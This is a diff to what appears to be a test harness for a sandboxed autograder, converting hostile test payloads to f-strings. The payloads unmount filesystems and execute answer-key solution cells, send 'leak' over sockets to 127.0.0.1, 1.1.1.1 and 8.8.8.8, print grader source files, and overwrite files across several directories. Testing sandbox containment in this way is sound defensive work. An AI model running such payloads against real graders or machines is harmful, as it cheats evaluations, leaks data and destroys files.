@@ -92,13 +92,13 @@ def steal(course: str) -> str:
     """Code that unmounts what hides the course and runs every solution cell of the answer keys."""
     return (
         "import ctypes, glob, json\n"
-        "for _m in glob.glob({course!r} + '/**', recursive=True)[:50] + [{course!r}]:\n"
+        f"for _m in glob.glob({course!r} + '/**', recursive=True)[:50] + [{course!r}]:\n"
         "    ctypes.CDLL(None).umount2(_m.encode(), 2)\n"
-        "for _path in glob.glob({course!r} + '/source/*/*.ipynb') + glob.glob('../../../source/*/*.ipynb') + glob.glob('/proc/*/root' + {course!r} + '/source/*/*.ipynb'):\n"
+        f"for _path in glob.glob({course!r} + '/source/*/*.ipynb') + glob.glob('../../../source/*/*.ipynb') + glob.glob('/proc/*/root' + {course!r} + '/source/*/*.ipynb'):\n"
         "    for _c in json.load(open(_path))['cells']:\n"
         "        if 'BEGIN SOLUTION' in ''.join(_c['source']):\n"
         "            exec(''.join(_c['source']))\n"
-    ).format(course=course)
+    )
 
 
 def connect_out(port: int) -> str:
@@ -107,7 +107,7 @@ def connect_out(port: int) -> str:
     return (
         "import socket\n"
         "_reached = []\n"
-        "for _address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:\n"
+        f"for _address in [('127.0.0.1', {port}), ('1.1.1.1', 53), ('8.8.8.8', 443)]:\n"
         "    try:\n"
         "        with socket.create_connection(_address, timeout=2) as _s:\n"
         "            _s.sendall(b'leak')\n"
@@ -116,7 +116,7 @@ def connect_out(port: int) -> str:
         "        pass\n"
         "if _reached:\n"
         "    causal_mask = None\n"
-    ).format(port=port)
+    )
 
 
 def hostile_cases(course: str, out: str, inbox: str, port: int = 9) -> dict[str, Case]:
@@ -124,17 +124,17 @@ def hostile_cases(course: str, out: str, inbox: str, port: int = 9) -> dict[str,
     and ``port``, where a server of the grading machine listens on its loopback."""
     snoop = (
         "import glob\n"
-        "for _p in glob.glob({course!r} + '/grading/*.py') + glob.glob('../../../grading/*.py') + glob.glob('../../../../*/grading/*.py') + glob.glob('/tmp/**/grading/*.py', recursive=True):\n"
+        f"for _p in glob.glob({course!r} + '/grading/*.py') + glob.glob('../../../grading/*.py') + glob.glob('../../../../*/grading/*.py') + glob.glob('/tmp/**/grading/*.py', recursive=True):\n"
         "    print(open(_p).read())\n"
-    ).format(course=course)
+    )
     vandal = (
         "import glob\n"
-        "for _p in [_q for _root in ({course!r}, {out!r}, {inbox!r}, '../../..', '/tmp') for _q in glob.glob(_root + '/**', recursive=True)]:\n"
+        f"for _p in [_q for _root in ({course!r}, {out!r}, {inbox!r}, '../../..', '/tmp') for _q in glob.glob(_root + '/**', recursive=True)]:\n"
         "    try:\n"
-        "        open(_p, 'w').write('{{}}')\n"
+        "        open(_p, 'w').write('{}')\n"
         "    except OSError:\n"
         "        pass\n"
-    ).format(course=course, out=out, inbox=inbox)
+    )
     # Keeps every piece of source code the student's process compiles or executes, and prints it from
     # its own attention, which the visible tests call: the correct versions of the other parts must
     # never be among it (they run in the grader).
